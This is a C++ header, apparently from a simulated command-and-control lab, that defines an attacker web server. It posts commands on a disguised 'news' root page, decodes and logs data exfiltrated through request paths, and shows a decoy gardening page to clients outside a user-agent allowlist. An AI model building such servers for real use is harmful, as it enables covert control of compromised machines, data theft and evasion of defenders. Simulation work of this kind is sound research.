#pragma once

// Attacker web server: the root page carries the current command, every
// other path is treated as exfiltrated data, and requests from agents outside
// the plugin allowlist get an innocuous decoy page.

#include <mutex>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include <json.hpp>

#include "c2lab/codec.hpp"
#include "c2lab/error.hpp"
#include "c2lab/http_types.hpp"
#include "c2lab/sim.hpp"

namespace c2lab {

struct BoardEntry {
  VirtualTime at{0};
  CommandMsg cmd;
};

struct CommandBoard {
  std::optional<std::string> current;
  std::vector<BoardEntry> history;

  std::size_t edition() const noexcept { return history.size(); }
};

inline void publish_command(CommandBoard& board, const CommandMsg& cmd, VirtualTime now) {
  if (!board.history.empty() && now < board.history.back().at)
    throw Error(Errc::StateError, "board timestamps must be non-decreasing");
  board.current = serialize_command(cmd);
  board.history.push_back({now, cmd});
}

struct UserAgentPolicy {
  bool cloaking = true;
  std::set<std::string> allowed_agents;
  std::string decoy_body = "Welcome to the Daily Garden Journal.\nThis week: tomatoes, pruning and compost.\n";

  void validate() const {
    if (cloaking && allowed_agents.empty())
      throw Error(Errc::ValidationError, "cloaking enabled with empty allowed_agents");
  }

  bool admits(const std::string& agent) const { return !cloaking || allowed_agents.contains(agent); }
};

struct ExfilRecord {
  VirtualTime at{0};
  std::string raw_path;
  std::optional<Bytes> decoded;
  std::string error;  // set iff decoded is empty
  std::string user_agent;
  std::uint16_t source_port = 0;
};

struct ExfilLog {
  std::vector<ExfilRecord> records;
};

inline constexpr std::string_view kEmptyBoardLine = "no news today";
inline constexpr std::string_view kAckBody = "thanks for reading\n";

/// Root page: an "edition <n>" line followed by the serialized command on
/// its own line.
inline std::string render_command_page(const CommandBoard& board) {
  std::string body = "edition " + std::to_string(board.edition()) + "\n";
  body += board.current ? *board.current : std::string(kEmptyBoardLine);
  body += "\n";
  return body;
}

class C2Server {
 public:
  C2Server(UserAgentPolicy policy, ExfilEncoding encoding) : policy_(std::move(policy)), encoding_(encoding) {
    policy_.validate();
  }

  void publish(const CommandMsg& cmd, VirtualTime now) {
    std::lock_guard lock(mu_);
    publish_command(board_, cmd, now);
  }

  HttpResponse handle_get(const HttpRequest& req, VirtualTime now) {
    std::lock_guard lock(mu_);
    if (req.method != "GET") return {405, "method not allowed\n"};
    if (!policy_.admits(req.user_agent)) return {200, policy_.decoy_body};

    std::string_view path = req.path;
    if (const auto q = path.find_first_of("?#"); q != std::string_view::npos) path = path.substr(0, q);
    if (path == "/" || path.empty()) return {200, render_command_page(board_)};

    ExfilRecord rec;
    rec.at = now;
    rec.raw_path = req.path;
    rec.user_agent = req.user_agent;
    rec.source_port = req.source_port;
    try {
      rec.decoded = decode_exfil_path(req.path, encoding_);
    } catch (const Error& e) {
      rec.error = e.what();
    }
    log_.records.push_back(std::move(rec));
    return {200, std::string(kAckBody)};
  }

  CommandBoard board() const {
    std::lock_guard lock(mu_);
    return board_;
  }
  ExfilLog exfil_log() const {
    std::lock_guard lock(mu_);
    return log_;
  }
  const UserAgentPolicy& policy() const noexcept { return policy_; }
  ExfilEncoding encoding() const noexcept { return encoding_; }

  /// Board and log are the only state; persisting them is enough to resume.
  nlohmann::json snapshot() const {
    std::lock_guard lock(mu_);
    nlohmann::json j;
    j["history"] = nlohmann::json::array();
    for (const auto& e : board_.history)
      j["history"].push_back({{"at", e.at.count()}, {"command", serialize_command(e.cmd)}});
    j["exfil"] = nlohmann::json::array();
    for (const auto& r : log_.records) {
      j["exfil"].push_back({{"at", r.at.count()},
                            {"path", r.raw_path},
                            {"user_agent", r.user_agent},
                            {"source_port", r.source_port}});
    }
    return j;
  }

  void restore(const nlohmann::json& j) {
    std::lock_guard lock(mu_);
    board_ = {};
    log_ = {};
    for (const auto& e : j.at("history"))
      publish_command(board_, parse_command(e.at("command").get<std::string>()), VirtualTime{e.at("at").get<long long>()});
    for (const auto& r : j.at("exfil")) {
      ExfilRecord rec;
      rec.at = VirtualTime{r.at("at").get<long long>()};
      rec.raw_path = r.at("path").get<std::string>();
      rec.user_agent = r.at("user_agent").get<std::string>();
      rec.source_port = r.at("source_port").get<std::uint16_t>();
      try {
        rec.decoded = decode_exfil_path(rec.raw_path, encoding_);
      } catch (const Error& e) {
        rec.error = e.what();
      }
      log_.records.push_back(std::move(rec));
    }
  }

 private:
  mutable std::mutex mu_;
  UserAgentPolicy policy_;
  ExfilEncoding encoding_;
  CommandBoard board_;
  ExfilLog log_;
};

}  // namespace c2lab
